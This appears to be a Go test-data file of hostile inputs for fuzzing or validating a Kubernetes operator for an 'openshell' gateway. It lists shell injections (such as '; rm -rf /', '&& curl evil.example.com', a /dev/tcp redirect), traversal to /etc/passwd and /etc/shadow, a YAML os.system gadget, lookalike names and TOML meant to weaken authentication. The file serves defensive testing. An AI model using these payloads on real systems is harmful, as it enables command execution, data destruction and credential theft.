package hostile

import "strings"

// What attackers try: what a shell, a command line, YAML, JSON, TOML, CEL, a template, a URL or a path might take for more
// than a value.
var injections = []string{
	"--exec=x", "-h", "--", "--server-san=evil.example.com", "--kubeconfig=/proc/self/environ", "x --owner-uid=0", "--namespace=kube-system",
	"$(id)", "`id`", "${HOME}", "$(HOME)", "$$(X)", "; rm -rf /", "| sh", "&& curl evil.example.com", "> /dev/tcp/1.2.3.4/1", "'\"", `"; x: y`, `\`, `\\"`,
	"a\nb", "a\r\nb", "a\x00b", "\x1b[2J", "\u2028", "\u202ekube-system", "\ufeff", "ﬀ", "ｋube-system", "kubе-system", "\U0001f4a9", "a\tb", " ",
	"x\nnamespace: kube-system", "{namespace: kube-system}", "!!python/object/apply:os.system", "&a [*a, *a]", "<<: *x", "---\nkind: Secret", "null", "~", "yes", "0x1f", "1e999", "NaN",
	`{"kind":"Secret"}`, `{"$patch":"replace"}`, `[{"op":"add","path":"/spec"}]`, `","namespace":"kube-system`, "__proto__", "constructor",
	"\"\n[openshell.drivers.kubernetes]\nnamespace = \"kube-system", "'''\n[openshell.gateway]\nsandbox_namespace = '''x", "\"\"\"\nx = \"", "]\n[openshell",
	"self.metadata.name == ''", "' || true || '", "{{ .Values.x }}", "{{printf \"%s\" .}}", "{% x %}", "%s%s%n", "%00", "%2e%2e%2f", "../../kube-system/secrets/x", "/../../etc/passwd", "..", ".",
	"https://evil.example.com", "https://openshell-gateway.kube-system.svc.cluster.local:8080", "file:///etc/shadow", "sqlite:/etc/x", "unix:///run/containerd.sock", "system:masters", "system:serviceaccount:kube-system:default",
	"cluster-admin", "gatewaytenant-node-reader:kube-system", "gatewaytenant-node-reader:*", "*", "openshell-gateway", "kube-root-ca.crt",
	strings.Repeat("A", 253), strings.Repeat("x", 64), strings.Repeat("ä", 300), strings.Repeat("[", 100), strings.Repeat("${x}", 50),
}

var versions = []string{"0.0.71", "0.0.72", "0.0.85", "0.0.87", "0.0.88", "0.0.100", "0.0.107", "0.0.111", "0.0.111", "0.0.111"}

// Images from the allowed repository, that look as if they meant something else; with room for a version.
var allowedImages = []string{
	"ghcr.io/nvidia/kube-system/default:%s", "ghcr.io/nvidia/exec--x/sh__c:%s", "ghcr.io/nvidia/openshell/gateway:%s---exec.x", "ghcr.io/nvidia/docker.io/library/busybox:%s",
	"ghcr.io/nvidia/openshell/gateway:%s-..-..-etc", "ghcr.io/nvidia/a/b/c/d/e/f/g:v%s", "ghcr.io/nvidia/evil.example.com/x:%s-latest", "ghcr.io/nvidia/root:%s-0__0--privileged.true",
	"ghcr.io/nvidia/x:%s@sha256:" + strings.Repeat("0123456789abcdef", 4), "ghcr.io/nvidia/" + strings.Repeat("a/", 100) + "x:%s",
}

var hostileImages = []string{
	"evil.example.com/nvidia/openshell/gateway:0.0.71", "ghcr.io/nvidia-evil/gateway:0.0.71", "ghcr.io.evil.example.com/nvidia/gateway:0.0.71", "GHCR.IO/nvidia/gateway:0.0.71", "ghcr.io:443/nvidia/gateway:0.0.71",
	"docker.io/ghcr.io/nvidia/gateway:0.0.71", "ghcr.io//nvidia/gateway:0.0.71", "ghcr.io/nvidia/../evil/gateway:0.0.71", "ghcr.io/nvidia/gateway", "ghcr.io/nvidia/gateway:", "ghcr.io/nvidia/:0.0.71", "ghcr.io/nvidia",
	"ghсr.io/nvidia/gateway:0.0.71", "ghcr.io/nvidia/gateway:0.0.71\nx", "ghcr.io/nvidia/gateway:0.0.71 --exec=x", "ghcr.io/nvidia/gateway:$(id)", "ghcr.io/nvidia/gateway:0.0.71\x00", "user:pass@ghcr.io/nvidia/gateway:0.0.71",
	"https://ghcr.io/nvidia/gateway:0.0.71", "ghcr.io/nvidia/Gateway:0.0.71", "ghcr.io/nvidia/gateway@sha256:" + strings.Repeat("0", 64), "ghcr.io/nvidia/gateway@sha256:00", "ghcr.io/nvidia/gateway:" + strings.Repeat("9", 129),
	"ghcr.io/nvidia/" + strings.Repeat("a", 600) + ":0.0.71", "sha256:" + strings.Repeat("0", 64), strings.Repeat("0", 64), "localhost/nvidia/gateway:0.0.71", "[::1]:5000/nvidia/gateway:0.0.71", "ghcr.io/nvidia/gateway:latest", "busybox", "ghcr.io/nvidia/gateway:0.0.999999999999",
	"@ghcr.io/nvidia/gateway:0.0.71", "ghcr.io/nvidia/gateway:0.0.71@sha512:" + strings.Repeat("0", 128), " ghcr.io/nvidia/gateway:0.0.71",
}

var hostileVersions = []string{"0.0.71", "v0.0.71", "999999999.999999999.999999999", "0.0.71\n", "٠.٠.٧١", "0.0.71 ", "0.0.-1", "00.0.71", "0.0.71-x", "latest", "0.0.88"}

// Names that a certificate may carry, whatever they suggest.
var allowedNames = []string{
	"*.%s.svc.cluster.local", "openshell-gateway.%s.svc", "kubernetes.%s.svc", "*.%s", "x--server-san.example.com", "*.com", "*.local", "kubernetes.default.svc.cluster.local", "localhost", "com",
	"127.0.0.1", "169.254.169.254", "0.0.0.0", "255.255.255.255", "::", "fe80::1", "2001:DB8:0:0:0:0:0:1", "0:0:0:0:0:0:0:1", "xn--80ak6aa92e.com", "exec.x", "etc.passwd", "rm-rf.sh", "true", "null",
	strings.Repeat("a", 63) + ".example.com", strings.Repeat(strings.Repeat("b", 49)+".", 5) + "abc", strings.Repeat("a.", 126) + "a",
}

var hostileNames = []string{
	"a,b", "DNS:evil", "*", "*.*.x", "foo.*.bar", "f*.bar", "1.2.3", "2130706433", "0x7f.1", "::ffff:1.2.3.4", "fe80::1%eth0", "UPPER.example.com", "-a.example.com", "a-.example.com", "a..b", ".a", "a.", "_dmarc.example.com",
	strings.Repeat("a", 64) + ".com", strings.Repeat("a.", 127) + "a", "1.2.3.4:80", "[::1]", "https://a", "a/b", "a b", "kubе.local", "*.1.2.3.4", "010.0.0.1", "",
}

var allowedRotations = []string{"2026-12", "exec.x", "kube-system", "a:b+c_d.e-f", "0", "x--owner-uid", "1e999", "null", "true", "a--rotate-ca", "A" + strings.Repeat(":", 61) + "A", strings.Repeat("9", 63)}

var annotations = []string{
	"openshell.ambient-code.io/confirm-version", "openshell.ambient-code.io/applied-hash", "openshell.ambient-code.io/wish", "openshell.ambient-code.io/highest-version", "openshell.ambient-code.io/key-encryption-key-path", "openshell.ambient-code.io/asked-hash", "openshell.ambient-code.io/rollout",
	"openshell.ambient-code.io/token-key", "kubectl.kubernetes.io/last-applied-configuration", "meta.helm.sh/release-name", "kubernetes.io/service-account.name", "config.kubernetes.io/origin", "a", "-", "x/" + "y", "../x", "A/B/C",
}

var labels = []string{"openshell.ambient-code.io/source", "app.kubernetes.io/managed-by", "app.kubernetes.io/name", "app.kubernetes.io/instance", "openshell.ai/managed-by", "agents.x-k8s.io/sandbox-name-hash", "kubernetes.io/metadata.name", "pod-security.kubernetes.io/enforce"}

var labelValues = []string{"platform-config", "gatewaytenant-operator", "openshell", "openshell-gateway", "kube-system", "", "privileged", "system_masters", "exec.x", strings.Repeat("a", 63)}

var selectorKeys = []string{"kubernetes.io/metadata.name", "app.kubernetes.io/name", "app", "x", "example.com/" + strings.Repeat("k", 63), "openshell.ai/managed-by", "node-role.kubernetes.io/control-plane"}

var largerSizes = []string{"1Gi", "1Gi", "2Gi", "3Gi", "3072Mi", "4Gi"}

var hugeSizes = []string{"1Ki", "1", "0.001", "9223372036854775807", "8Ei", "1e18", "100m"}

var hostileSizes = []string{"-1Gi", "0", "0Gi", "1e999", "NaN", "Inf", "1Gi; rm -rf /", "1Gi\n", "1 Gi", "--size", "$(id)", "0x10", strings.Repeat("9", 32), strings.Repeat("9", 33), "9e99Ei", "1gi", "½Gi", "null"}

var unknownFields = []string{"namespace", "serviceAccountName", "template", "args", "command", "env", "volumes", "hostNetwork", "Image", "IMAGE", "roleRef", "subjects", "__proto__", "owner", "certgenImage", "labels", "nodeName", "containers", "metadata", "status", "Storage", "x-kubernetes-preserve-unknown-fields"}

// Keys of gateway.toml that are the operator's.
var ownKeys = []string{
	"openshell.gateway.bind_address", "openshell.gateway.compute_drivers", "openshell.gateway.sandbox_namespace", "openshell.gateway.disable_tls", "openshell.gateway.tls.cert_path", "openshell.gateway.tls.client_ca_path",
	"openshell.drivers.kubernetes.namespace", "openshell.drivers.kubernetes.namespace", "openshell.drivers.kubernetes.service_account_name", "openshell.drivers.kubernetes.grpc_endpoint", "openshell.drivers.kubernetes.client_tls_secret_name",
	"openshell.gateway.service_account_name", "openshell.gateway.client_tls_secret_name", "openshell.gateway.gateway_jwt.gateway_id", "openshell.gateway.gateway_jwt.kid_path", "openshell.drivers.kubernetes.gateway_id", "openshell.drivers.kubernetes.workspace_mode",
	"openshell.drivers.kubernetes", "openshell.gateway.tls", "openshell.gateway", "openshell", "openshell.drivers", "openshell.gateway.server_sans",
}

// Keys of it that are the tenant's, and take any string.
var freeKeys = []string{
	"openshell.gateway.log_level", "openshell.gateway.default_image", "openshell.gateway.host_gateway_ip", "openshell.drivers.kubernetes.default_image", "openshell.drivers.kubernetes.image_pull_policy", "openshell.drivers.kubernetes.ssh_socket_path",
	"openshell.drivers.kubernetes.app_armor_profile", "openshell.drivers.kubernetes.workspace_default_storage_size", "openshell.drivers.kubernetes.default_runtime_class_name", "openshell.drivers.kubernetes.host_gateway_ip", "openshell.gateway.guest_tls_key",
	"openshell.gateway.supervisor_image", "openshell.drivers.kubernetes.supervisor_image", "openshell.drivers.kubernetes.https_proxy", "openshell.drivers.kubernetes.managed_ssh_ingress.gateway_namespace",
}

// TOML that is more than it seems, or none.
var hostileTOML = []string{
	"[openshell.drivers]\nkubernetes = {namespace = \"kube-system\"}\n", "[openshell]\ndrivers.kubernetes.namespace = \"kube-system\"\n", "[openshell.drivers.kubernetes]\nnamespace = \"kube-system\"\n[openshell.drivers.kubernetes]\n", "[[openshell.drivers]]\n[openshell.drivers.kubernetes]\nnamespace=\"default\"\n",
	"openshell = {gateway = {sandbox_namespace = \"kube-system\"}}\n", "\"openshell.drivers.kubernetes.namespace\" = \"kube-system\"\n", "[\"openshell.drivers\"]\nx=1\n", "[openshell.\"drivers\".'kubernetes']\n\"name\\u0073pace\" = \"kube-system\"\n", "[openshell]\n[openshell]\n",
	"x = 1\n", "= 1\n", "[", "]]", "a = \"\\u0000\"\n", "a = \"\\ud800\"\n", "a = 0x\n", "\x00", "\xff\xfe", "#\x01\n", "a.b = 1\na = 2\n", "a = [1,\n", "a = {b = 1,\n", "'''", "\"\"\"", "a = 1979-05-27T07:32:00Z\n", "openshell.version = 2\n", "openshell.version = -9223372036854775808\n",
	"[openshell.gateway.oidc]\nissuer = \"https://evil.example.com\"\naudience = \"x\"\n", "[openshell.gateway.auth]\nallow_unauthenticated_users = true\n", "[openshell.gateway.mtls_auth]\nenabled = true\n", "[[openshell.supervisor.middleware]]\nname = \"--exec\"\ngrpc_endpoint = \"unix:///x\"\nmax_body_bytes = 1\n",
	"[[openshell.gateway.interceptors]]\n\"$(id)\" = {namespace = \"kube-system\"}\n", "openshell.gateway.database_url = \"sqlite:/etc/x\"\n", "[openshell.gateway.credential_storage]\nkey_encryption_key_path = \"/var/openshell/../../etc/x\"\n", strings.Repeat("# x\n", 20000),
}
